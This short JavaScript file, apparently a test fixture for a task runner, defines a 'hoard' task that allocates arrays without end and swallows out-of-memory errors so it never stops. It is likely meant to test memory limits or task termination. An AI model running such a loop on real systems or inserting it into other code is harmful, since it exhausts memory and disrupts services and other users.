import { run } from "./base.js";

const kept = [];
const hoard = () => {
  for (;;) {
    try { for (;;) kept.push(new Array(10).fill(0)); } catch { continue; }
  }
};
run({ task: hoard });
